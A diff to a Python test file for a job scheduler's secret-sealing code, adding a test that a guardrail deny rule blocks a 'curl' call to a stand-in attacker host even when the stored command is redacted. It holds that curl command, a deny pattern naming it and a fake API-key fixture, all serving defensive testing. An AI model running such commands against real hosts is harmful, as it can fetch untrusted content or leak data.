@@ -11,13 +11,16 @@ import anyio
 import pytest
 
 from corral.domain.errors import WorkerError
-from corral.domain.models import JobSpec
+from corral.domain.models import Job, JobSpec, Limits
 from corral.domain.settings import EnvSpec, RoleSpec, Settings
+from corral.domain.states import DedupMode, JobState
+from corral.policy.guardrails import load_rules
 from corral.policy.redact import MARK
 from corral.policy.secrets import SEALED, Parts, conceal, reveal, secret_values
+from corral.runtime.gate import PrerunGate
 from corral.scheduler.service import Submissions
 from corral.store.memory import MemoryStore
-from corral.workers.sealing import Keeper, reveal_job
+from corral.workers.sealing import Keeper, reveal_job, revealer
 
 CANARY = "corral-canary-seal-0d9e71"
 KEY = "sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
@@ -105,3 +108,22 @@ def test_the_store_holds_the_job_redacted_and_the_attempt_runs_it_real(tmp_path:
     assert set(real.secrets) == {CANARY, KEY, "engine-side-val"}
     with pytest.raises(WorkerError, match="--secret-env FROM_ENGINE: the engine's environment"):
         reveal_job(job, keeper, {})
+
+
+def test_guardrails_at_spawn_judge_the_command_that_runs_and_record_it_redacted(
+        tmp_path: Path) -> None:
+    rules = load_rules("roles:\n  ops:\n    - {id: no-evil, when: {command: 'curl *evil-host*'},"
+                       " verdict: deny, reason: evil_host}\n")
+    keeper = Keeper(tmp_path / "secrets.key")
+    job = keeper.conceal(Job(
+        id="j1", state=JobState.QUEUED, role="ops", worker="command", env_name="local",
+        priority=2, tenant="default", command=("curl", "https://evil-host.example/x"),
+        prompt=None, cwd=None, env={"TARGET_TOKEN": "evil-host.example"},
+        options={"secret_env": ["FROM_ENGINE"]}, limits=Limits(), key=None,
+        dedup=DedupMode.COALESCE, workspace=None, parent_id=None, depth=0, created_at=0,
+        updated_at=0, sort_at=0))
+    assert job.command == ("curl", f"https://{MARK}/x")  # what the store keeps passes…
+    gate = PrerunGate(MemoryStore(), guardrails=rules, reveal=revealer(keeper))
+    verdict = gate._spawn_guardrails(job)  # …but the command that would run does not
+    assert verdict is not None and verdict.reason == "evil_host"
+    assert "evil-host" not in f"{verdict.message} {verdict.command}"
